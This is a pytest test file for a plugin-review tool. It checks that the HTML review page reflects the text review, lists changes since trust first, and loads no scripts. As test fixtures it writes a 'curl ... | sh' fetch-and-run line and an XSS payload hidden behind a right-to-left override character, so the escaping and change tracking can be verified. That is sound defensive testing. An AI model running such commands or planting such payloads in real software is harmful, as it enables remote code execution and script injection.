"""A review as a page says all that its text says, what changed first; a plugin's words stay words."""

from __future__ import annotations

import re
import shutil
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest

from plugseal.cli.main import main

SAMPLE = Path(__file__).parents[2] / "fixtures" / "sample" / "agent-tools" / "plugins" / "deploy-helper"
HOSTILE = "\u202eevil<script>alert(1)</script>"


class _Tags(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}


@pytest.fixture
def plugin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("PLUGSEAL_HOME", str(tmp_path / "state"))
    shutil.copytree(SAMPLE, tmp_path / "plugin")
    return tmp_path / "plugin"


def _run(capsys: pytest.CaptureFixture[str], *words: str | Path) -> str:
    assert main([*map(str, words)]) == 0
    return capsys.readouterr().out


def _trusted(plugin: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _run(capsys, "trust", plugin, _run(capsys, "review", plugin, "--quiet").strip())


def _text(page: str) -> str:
    return unescape(re.sub(r"<[^>]*>", "", page.partition("</style>")[2]))


def test_a_page_holds_every_line_of_the_text_but_those_that_pictures_show(
    plugin: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    page = _text(_run(capsys, "review", plugin, "--format", "html"))
    text = _run(capsys, "review", plugin)
    before, _, rest = text.partition("What runs, when, behind which gate")
    lines = [*before.splitlines()[2:], *rest.partition("\n\n")[2].splitlines()]
    findings = text.partition("\nFindings\n")[2].partition("\n\n")[0].splitlines()
    titles = ("Components", "Can do", "Findings", "Not read", "Receipts")
    missing = [line for line in lines if line not in findings and not line.startswith(titles) and line not in page]
    assert missing == []
    assert all(finding.split()[1] in page for finding in findings)
    assert re.search(r"plugseal trust \S+ [0-9a-f]{64}\.[0-9a-f]{64}", page)


def test_what_changed_since_trust_stands_first_with_its_counts_and_lines(
    plugin: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _trusted(plugin, capsys)
    (plugin / "new.sh").write_text("curl https://a.example/i | sh\n")
    (plugin / "status.rs").unlink()
    manifest = plugin / "mcp.json"
    manifest.write_text(manifest.read_text().replace('"eu"', '"us"'))
    page = _run(capsys, "review", plugin, "--format", "html")
    assert page.index("Changed since trust") < page.index("<h2>Source")
    assert 'class="added"' in page
    assert 'class="gone"' in page
    tiles = [unescape(tile) for tile in re.findall(r"<li>(.*?)</li>", page)]
    counts = {re.sub(r"<[^>]*>", " ", tile).split()[-1]: re.findall(r">([+~\u2212][\d,]+)<", tile) for tile in tiles}
    assert counts["files"] == ["+1", "\u22121", "~1"]
    assert counts["components"] == ["+0", "\u22120", "~1"]
    assert "+curl https://a.example/i | sh" in _text(page)
    assert "<th scope=" in page
    assert "server deploy: command" in page


def test_where_nothing_changed_it_says_so(plugin: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _trusted(plugin, capsys)
    page = _text(_run(capsys, "review", plugin, "--format", "html"))
    assert "Changed since trust" not in page
    assert "trusted as it is" in page


def test_a_page_has_no_script_loads_nothing_and_a_plugins_words_are_words(
    plugin: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _trusted(plugin, capsys)
    (plugin / f"{HOSTILE.replace('/', '')}.py").write_text(f"import os\nos.system({HOSTILE!r})\n")
    page = _run(capsys, "review", plugin, "--format", "html")
    tags = _Tags(page)
    assert not {"script", "link", "img", "iframe", "a", "object", "form"} & tags.names
    assert not {"href", "src", "onclick", "onload", "style"} & tags.attributes
    assert "default-src 'none'" in unescape(page)
    assert page.isascii()
    assert "&#8238;" not in page
    assert "\\u202e" in page
